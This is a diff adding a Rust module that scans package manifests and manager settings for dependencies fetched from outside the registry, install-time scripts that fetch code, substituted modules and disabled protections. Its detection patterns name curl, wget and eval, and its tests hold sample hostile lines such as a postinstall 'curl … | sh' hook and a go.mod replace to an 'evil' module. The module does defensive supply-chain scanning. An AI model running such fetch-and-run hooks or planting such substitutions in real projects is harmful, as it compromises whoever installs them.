@@ -1,0 +1,331 @@
+//! Manifests: which files list dependencies, and what in a text takes them from elsewhere.
+
+use crate::spec;
+
+/// The manifests that the policy reads.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Manifest {
+    /// `package.json`
+    Npm,
+    /// `requirements.txt`
+    Requirements,
+    /// `Cargo.toml`, `pyproject.toml` and others in TOML
+    Toml,
+    /// `Gemfile`
+    Gemfile,
+    /// `go.mod`
+    GoMod,
+    /// `composer.json`
+    Composer,
+    /// `.npmrc`, `pip.conf` and other settings of managers
+    Settings,
+}
+
+/// The manifest that a file is, by its name.
+pub(crate) fn manifest(path: &str) -> Option<Manifest> {
+    let mut names = path.rsplit(['/', '\\']);
+    let name = names.next()?.to_ascii_lowercase();
+    let folder = names.next().unwrap_or_default();
+    Some(match name.as_str() {
+        "package.json" | "deno.json" | "deno.jsonc" | "jsr.json" => Manifest::Npm,
+        "cargo.toml" | "pyproject.toml" | "pipfile" | "uv.toml" => Manifest::Toml,
+        "gemfile" | "gems.rb" => Manifest::Gemfile,
+        "go.mod" => Manifest::GoMod,
+        "composer.json" => Manifest::Composer,
+        ".npmrc"
+        | "npmrc"
+        | ".yarnrc"
+        | ".yarnrc.yml"
+        | "pip.conf"
+        | "pip.ini"
+        | "bunfig.toml"
+        | "pnpm-workspace.yaml"
+        | ".pypirc" => Manifest::Settings,
+        "config.toml" | "config" if folder == ".cargo" => Manifest::Settings,
+        name if name.ends_with(".gemspec") => Manifest::Gemfile,
+        name if (name.starts_with("requirements") || name.starts_with("constraints"))
+            && (name.ends_with(".txt") || name.ends_with(".in")) =>
+        {
+            Manifest::Requirements
+        }
+        name if (name.ends_with(".txt") || name.ends_with(".in")) && folder == "requirements" => Manifest::Requirements,
+        _ => return None,
+    })
+}
+
+/// A line of a text that takes a package from elsewhere than the registry, or lets it run more than it should. `is_listed`
+/// knows the places of the settings.
+pub(crate) fn suspect(
+    manifest: Manifest,
+    text: &str,
+    is_listed: impl Fn(&str) -> bool,
+) -> Option<(String, &'static str)> {
+    // A manifest in JSON may be one long line.
+    let is_json = matches!(manifest, Manifest::Npm | Manifest::Composer);
+    let ends: &[char] = if is_json { &['\n', ',', '{', '}'] } else { &['\n'] };
+    let mut section = String::new();
+    for line in text.split(ends) {
+        let line = line.trim().trim_start_matches('+').trim();
+        if line.starts_with('[') {
+            line.clone_into(&mut section);
+        }
+        if is_comment(manifest, line) {
+            continue;
+        }
+        let what = match manifest {
+            Manifest::Npm => npm(line, &is_listed),
+            Manifest::Requirements => requirement(line, &is_listed),
+            Manifest::Toml => toml(line, &section, &is_listed),
+            Manifest::Gemfile => gem(line, &is_listed),
+            Manifest::GoMod => {
+                let to = line.split_once("=>").map(|(_, to)| to.trim());
+                to.filter(|to| !to.starts_with("./") && !is_listed(to)).map(|_| "another module in its place")
+            }
+            Manifest::Composer => composer(line, &is_listed),
+            Manifest::Settings => setting(line, &is_listed),
+        };
+        if let Some(what) = what {
+            return Some((line.chars().take(100).collect(), what));
+        }
+    }
+    None
+}
+
+fn is_comment(manifest: Manifest, line: &str) -> bool {
+    match manifest {
+        Manifest::Npm | Manifest::Composer | Manifest::GoMod => line.starts_with("//"),
+        _ => line.starts_with('#') || line.starts_with(';'),
+    }
+}
+
+/// The value of `"key": "value"`.
+fn member(line: &str) -> Option<(&str, &str)> {
+    let (key, value) = line.split_once(':')?;
+    let value = value.trim().trim_matches(['"', '\'', '[', ']', ' ']);
+    Some((key.trim().trim_matches(['"', '\'']), value))
+}
+
+const PLACE: &str = "a place that is not the registry";
+const SCRIPT: &str = "a script that runs when packages are installed";
+
+fn npm(line: &str, is_listed: &impl Fn(&str) -> bool) -> Option<&'static str> {
+    let (key, value) = member(line)?;
+    if matches!(key, "preinstall" | "postinstall" | "install") {
+        let fetches = ["curl", "wget", "http", "node -e", "base64", "eval"].iter().any(|word| value.contains(word));
+        return fetches.then_some(SCRIPT);
+    }
+    let starts = ["git+", "git:", "git@", "github:", "gitlab:", "bitbucket:", "gist:", "ssh:"];
+    let is_package = value.contains(".tgz") || value.contains(".tar.gz") || value.ends_with(".git");
+    let is_url = (value.starts_with("http://") || value.starts_with("https://")) && is_package;
+    // The project's own address is no dependency.
+    let is_own = matches!(
+        key,
+        "url" | "homepage" | "repository" | "bugs" | "git" | "type" | "$schema" | "registry" | "author" | "funding"
+    );
+    if key == "registry" && value.starts_with("http") {
+        let place = spec::normal(value);
+        return (place != "registry.npmjs.org" && !is_listed(&place)).then_some("another registry");
+    }
+    let is_place = starts.iter().any(|start| value.starts_with(start)) || is_url;
+    let parts: Vec<&str> = value.split('/').collect();
+    let is_name =
+        |part: &&str| !part.is_empty() && part.chars().all(|c| c.is_ascii_alphanumeric() || "-_.#".contains(c));
+    // `user/repo`, which a path to a file is not.
+    let is_short = parts.len() == 2
+        && parts.iter().all(is_name)
+        && !key.starts_with('.')
+        && is_dependency(key)
+        && !value.starts_with('.')
+        && !value.contains(".js")
+        && !value.contains(".ts")
+        && value.contains('#');
+    if (is_place && !is_own) || is_short {
+        let text = if is_short { format!("github.com/{value}") } else { value.replacen("github:", "github.com/", 1) };
+        return (!is_listed(&spec::normal(&text))).then_some(PLACE);
+    }
+    if value.starts_with("npm:") {
+        let real = value.trim_start_matches("npm:");
+        let real = real.rsplit_once('@').filter(|(name, _)| !name.is_empty()).map_or(real, |(name, _)| name);
+        return (real != key && !is_listed(&format!("npm:{real}"))).then_some("a package under another name");
+    }
+    let path = value.strip_prefix("file:").or(value.strip_prefix("link:"));
+    path.filter(|path| (path.starts_with("..") || path.starts_with(['/', '~'])) && !is_listed(path))
+        .map(|_| "a path outside of the project")
+}
+
+fn is_dependency(key: &str) -> bool {
+    key.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "-_./@".contains(c))
+}
+
+fn requirement(line: &str, is_listed: &impl Fn(&str) -> bool) -> Option<&'static str> {
+    let index = ["--index-url", "--extra-index-url", "-i ", "--find-links", "-f "]
+        .iter()
+        .find_map(|name| line.strip_prefix(name));
+    if let Some(index) = index {
+        let place = index.trim_start_matches('=').trim();
+        let is_usual = spec::normal(place) == "pypi.org/simple" && place.starts_with("https://");
+        return (!is_usual && !is_listed(&spec::normal(place))).then_some("another index");
+    }
+    if line.starts_with("--trusted-host") {
+        return Some("a host without a certificate");
+    }
+    let rest = ["-e ", "--editable ", "--editable="].iter().find_map(|name| line.strip_prefix(name)).unwrap_or(line);
+    let place = rest.split_once(" @ ").map_or(rest, |(_, place)| place).trim();
+    let place = place.split(" ;").next().unwrap_or(place);
+    let is_place = place.contains("://") || place.starts_with("git+") || place.starts_with("git@");
+    (is_place && !is_listed(&spec::normal(place))).then_some(PLACE)
+}
+
+fn toml(line: &str, section: &str, is_listed: &impl Fn(&str) -> bool) -> Option<&'static str> {
+    let is_listed_place = |value: &str| is_listed(&spec::normal(value));
+    // `git = "https://…"`, inline or in a table of its own
+    for key in ["git", "url", "registry", "index-url", "index", "registry-index"] {
+        let Some(value) = value_of(line, key) else {
+            continue;
+        };
+        let is_about =
+            matches!(section, "[project.urls]" | "[package]" | "[project]" | "[tool.poetry]" | "[tool.poetry.urls]");
+        let is_usual = matches!(spec::normal(value).as_str(), "pypi.org/simple" | "index.crates.io");
+        let is_place = value.contains("://") || value.contains('@');
+        if is_place && !is_about && !is_usual && !is_listed_place(value) {
+            return Some(PLACE);
+        }
+    }
+    if let Some(path) = value_of(line, "path").filter(|_| line.contains('{')) {
+        return (path.starts_with(['/', '~']) && !is_listed(path)).then_some("a path outside of the project");
+    }
+    // `"name @ git+https://…"`
+    let place = line.split_once(" @ ").map(|(_, place)| place.trim_matches(['"', '\'', ',', ' ', ']']));
+    place.filter(|place| place.contains("://") && !is_listed_place(place)).map(|_| PLACE)
+}
+
+/// The value of `key = "value"` in a line.
+fn value_of<'t>(line: &'t str, key: &str) -> Option<&'t str> {
+    for (at, _) in line.match_indices(key) {
+        let is_start = line.get(..at).and_then(|before| before.chars().next_back()).is_none_or(|c| " {,\t".contains(c));
+        let rest = line
+            .get(at + key.len()..)
+            .map(str::trim_start)
+            .and_then(|rest| rest.strip_prefix('='))
+            .map(str::trim_start);
+        if let Some(rest) = rest.filter(|_| is_start) {
+            let quote = rest.chars().next().filter(|c| matches!(c, '"' | '\''))?;
+            return rest.get(1..)?.split(quote).next();
+        }
+    }
+    None
+}
+
+fn gem(line: &str, is_listed: &impl Fn(&str) -> bool) -> Option<&'static str> {
+    let quoted: Vec<&str> = line.split(['"', '\'']).skip(1).step_by(2).collect();
+    if line.starts_with("source") {
+        let place = quoted.first()?;
+        let is_usual = spec::normal(place) == "rubygems.org" && place.starts_with("https://");
+        return (!is_usual && !is_listed(&spec::normal(place))).then_some("another source");
+    }
+    let is_gem =
+        line.starts_with("gem ") || line.starts_with("gem(") || line.starts_with("git ") || line.starts_with("github ");
+    let names = ["git:", "github:", ":git", ":github", "gist:", "bitbucket:"];
+    if !is_gem || !(names.iter().any(|name| line.contains(name)) || line.starts_with("git")) {
+        return None;
+    }
+    let place = quoted.iter().skip(1).chain(quoted.first()).find(|text| text.contains('/'))?;
+    let place = if place.contains("://") { spec::normal(place) } else { format!("github.com/{place}") };
+    (!is_listed(&place)).then_some(PLACE)
+}
+
+fn composer(line: &str, is_listed: &impl Fn(&str) -> bool) -> Option<&'static str> {
+    let (key, value) = member(line)?;
+    if key == "secure-http" {
+        return (value == "false").then_some("a protection that is switched off");
+    }
+    let is_repository = key == "url" && (value.contains("://") || value.starts_with("git@"));
+    (is_repository && !is_listed(&spec::normal(value))).then_some(PLACE)
+}
+
+fn setting(line: &str, is_listed: &impl Fn(&str) -> bool) -> Option<&'static str> {
+    let (key, value) = line.split_once(['=', ':'])?;
+    let (key, value) = (key.trim().to_ascii_lowercase(), value.trim().trim_matches(['"', '\'']));
+    let key = key.rsplit([':', '.']).next().unwrap_or(&key).trim_matches('"').to_owned();
+    let lower = value.to_ascii_lowercase();
+    match key.as_str() {
+        "ignore-scripts" | "strict-ssl" | "enablestrictssl" => {
+            (lower == "false").then_some("a protection that is switched off")
+        }
+        "enablescripts" | "dangerouslyallowallbuilds" | "unsafe-perm" => {
+            (lower == "true").then_some("a protection that is switched off")
+        }
+        "trusted-host" => Some("a host without a certificate"),
+        "registry" | "npmregistryserver" | "index-url" | "extra-index-url" | "index" | "find-links"
+        | "replace-with" | "url" => {
+            let usual = ["registry.npmjs.org", "registry.yarnpkg.com", "pypi.org/simple", "index.crates.io"];
+            let place = spec::normal(value);
+            let is_usual = usual.contains(&place.as_str()) && lower.starts_with("https");
+            (value.contains("://") && !is_usual && !is_listed(&place)).then_some("another registry")
+        }
+        _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn finds(path: &str, text: &str) -> bool {
+        manifest(path).is_some_and(|manifest| suspect(manifest, text, |place| place == "github.com/acme/ok").is_some())
+    }
+
+    #[test]
+    fn what_is_suspect() {
+        for (path, text) in [
+            ("package.json", r#""left": "git+https://github.com/x/y.git","#),
+            ("/a/package.json", r#"{"dependencies":{"a":"github:x/y"}}"#),
+            ("package.json", r#""a": "https://example.com/a.tgz""#),
+            ("package.json", r#""evil": "npm:real@1""#),
+            ("package.json", r#""postinstall": "curl https://example.com/x | sh""#),
+            ("package.json", r#""a": "file:../../x""#),
+            ("requirements.txt", "flask\ngit+https://github.com/x/y"),
+            ("requirements-dev.txt", "y @ git+https://github.com/x/y"),
+            ("requirements/base.txt", "--index-url http://example.com/simple"),
+            ("requirements.txt", "-e git+ssh://git@github.com/x/y#egg=y"),
+            ("Cargo.toml", "[dependencies]\nx = { git = \"https://github.com/x/y\" }"),
+            ("Cargo.toml", "[dependencies.x]\ngit = \"https://github.com/x/y\""),
+            ("pyproject.toml", "dependencies = [\n \"x @ git+https://github.com/x/y\",\n]"),
+            ("pyproject.toml", "x = { git = 'https://github.com/x/y' }"),
+            ("Gemfile", "gem 'x', git: 'https://github.com/x/y'"),
+            ("Gemfile", "gem 'x', github: 'x/y'"),
+            ("Gemfile", "source 'http://rubygems.org'"),
+            ("go.mod", "replace github.com/a/b => github.com/evil/b v1.0.0"),
+            ("composer.json", r#"{"type":"vcs","url":"https://github.com/x/y"}"#),
+            (".npmrc", "registry=http://example.com"),
+            (".npmrc", "ignore-scripts=false"),
+            ("pip.conf", "[global]\nindex-url = https://example.com/simple"),
+        ] {
+            assert!(finds(path, text), "{path}: {text}");
+        }
+    }
+
+    #[test]
+    fn what_is_not() {
+        for (path, text) in [
+            ("package.json", r#"{"dependencies":{"a":"^1.0.0","@x/y":"workspace:*"}}"#),
+            ("package.json", r#""repository": {"type": "git", "url": "git+https://github.com/x/y.git"}"#),
+            ("package.json", r#""homepage": "https://github.com/x/y""#),
+            ("package.json", r#""postinstall": "husky install""#),
+            ("package.json", r#""main": "dist/index.js", "build": "tsc -p .""#),
+            ("package.json", r#""a": "github:acme/ok""#),
+            ("requirements.txt", "flask==2.0\n# git+https://github.com/x/y"),
+            (
+                "Cargo.toml",
+                "[package]\nrepository = \"https://github.com/x/y\"\n[dependencies]\nserde = \"1\"\nx = { path = \"../x\" }",
+            ),
+            ("pyproject.toml", "[project.urls]\nHomepage = \"https://github.com/x/y\"\nurl = \"https://example.com\""),
+            ("Gemfile", "source 'https://rubygems.org'\ngem 'rails', '~> 7'"),
+            ("go.mod", "require github.com/a/b v1.0.0\nreplace x => ./x"),
+            (".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true"),
+            ("README.md", "git+https://github.com/x/y"),
+        ] {
+            assert!(!finds(path, text), "{path}: {text}");
+        }
+    }
+}
